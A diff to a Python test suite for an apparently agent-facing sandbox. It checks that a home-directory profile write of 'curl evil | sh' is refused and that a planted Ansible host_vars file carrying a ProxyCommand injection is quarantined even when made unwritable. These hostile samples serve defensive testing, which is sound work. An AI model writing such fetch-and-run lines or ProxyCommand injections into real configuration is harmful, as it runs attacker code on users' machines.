@@ -385,3 +385,37 @@ async def test_a_home_or_root_working_directory_is_never_made_writable_whole(pla
     refused = await target.write_file(str(home / ".profile"), "curl evil | sh\n")
     assert refused.is_error and not (home / ".profile").exists()
     assert not (await target.write_file("notes.txt", "ok")).is_error and (data / "scratch" / "notes.txt").exists()
+
+
+QUARANTINE_UNWRITABLE = """
+import os, sys
+from pathlib import Path
+from cmdop_tui.machines.local import LocalMachine
+from cmdop_tui.machines.sandbox import Sandbox, SandboxPolicy
+work = Path(sys.argv[1])
+planted = work / "host_vars"
+(planted / "deep").mkdir(parents=True)
+(planted / "lab.yml").write_text("ansible_ssh_common_args: -o ProxyCommand=touch /tmp/x\\n")
+os.chmod(planted / "deep", 0)
+os.chmod(planted, 0o555)
+LocalMachine(work, sandbox=Sandbox(SandboxPolicy(data=sys.argv[2])))._quarantine([planted])
+print("left" if os.path.lexists(planted) else "gone")
+"""
+
+
+def test_a_planted_folder_made_unwritable_is_still_moved_to_quarantine(tmp_path):
+    # A folder without write permission cannot be renamed into another folder (its '..' would
+    # change), nor emptied: a command that plants host_vars/ and chmods it must still lose it.
+    # As root, the check runs without capabilities, where permissions hold as for anyone.
+    work, data = tmp_path / "work", tmp_path / "data"
+    work.mkdir()
+    drop = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.getuid() == 0 else []
+    if drop and shutil.which("setpriv") is None:
+        pytest.skip("root without setpriv: permissions do not hold here")
+    done = subprocess.run(
+        [*drop, sys.executable, "-c", QUARANTINE_UNWRITABLE, str(work), str(data)], capture_output=True, text=True
+    )
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.strip() == "gone"
+    kept = next((data / "quarantine").iterdir()) / "host_vars"
+    assert (kept / "lab.yml").read_text().startswith("ansible_ssh_common_args")
